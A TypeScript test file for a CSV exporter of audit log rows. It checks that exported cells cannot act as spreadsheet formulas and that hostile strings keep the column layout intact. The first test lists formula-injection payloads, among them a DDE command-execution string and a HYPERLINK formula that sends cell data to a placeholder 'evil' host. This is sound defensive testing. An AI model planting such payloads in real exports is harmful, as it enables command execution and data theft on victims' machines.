// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { createSampleDrafts } from '../testing/sample-drafts.ts'
import { csvCell, csvColumns, csvHeader, csvLine } from './csv.ts'
import type { ReaderRow } from './reader.ts'
import { codePoint } from '../core/fixtures/code-point.ts'

/** RFC 4180, as a spreadsheet reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at++) {
    const here = text[at] ?? ''
    if (isQuoted && here === '"' && text[at + 1] === '"') {
      cell += '"'
      at++
    } else if (here === '"') isQuoted = !isQuoted
    else if (!isQuoted && (here === ',' || (here === '\r' && text[at + 1] === '\n'))) {
      rows.at(-1)?.push(cell)
      cell = ''
      if (here === '\r') {
        rows.push([])
        at++
      }
    } else cell += here
  }
  return rows.slice(0, -1)
}

const rowWith = (members: object): ReaderRow => ({
  ...createSampleDrafts().audit(members),
  log: '_/gateway/edge-1/audit',
  monotonic_seq: 1,
  prev_hash: 'genesis',
  hash: null,
  verification: 'ring',
})

describe('csv', () => {
  test('no cell is a formula to a spreadsheet', () => {
    for (const attack of [
      "=cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      '@SUM(1,1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '  =1',
      '\u00a0=1',
      '\uff1d1',
      '\uff0b1',
      '\uff0d1',
      '\uff201',
      '=HYPERLINK("http://evil/?"&A1,"x")',
      '\0=1',
    ]) {
      const cell = parseCsv(`${csvCell(attack)}\r\n`)[0]?.[0] ?? assert.fail('no cell')
      assert.doesNotMatch(cell, /^[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/, JSON.stringify(attack))
      assert.doesNotMatch(cell, /^[\t\r\n]/)
    }
    assert.equal(csvCell(-5), '-5')
    assert.equal(csvCell('a=b'), 'a=b')
  })

  test('whatever is in a row, the line has the columns of the header', () => {
    const hostile = fc.string({
      unit: fc.oneof(fc.constantFrom('"', ',', '\r', '\n', '=', '\t', "'", ';'), codePoint),
    })
    fc.assert(
      fc.property(hostile, hostile, (actor, note) => {
        const parsed = parseCsv(
          csvHeader('audit') + csvLine(rowWith({ actor, target: note, detail: { note } }), 'audit'),
        )
        assert.equal(parsed.length, 2)
        assert.equal(parsed[1]?.length, csvColumns.audit.length)
        const detail = parsed[1]?.[csvColumns.audit.indexOf('detail')] ?? ''
        assert.deepEqual(JSON.parse(detail), { note })
      }),
      { numRuns: 300 },
    )
  })

  test('nested members are JSON, absent ones empty', () => {
    const [header = [], line = []] = parseCsv(
      csvHeader('audit') + csvLine(rowWith({ source: { ip: '10.0.0.7' } }), 'audit'),
    )
    const cell = (name: string): string | undefined => line[header.indexOf(name)]
    assert.equal(cell('source'), '{"ip":"10.0.0.7"}')
    assert.equal(cell('reason'), '')
    assert.equal(cell('monotonic_seq'), '1')
  })
})
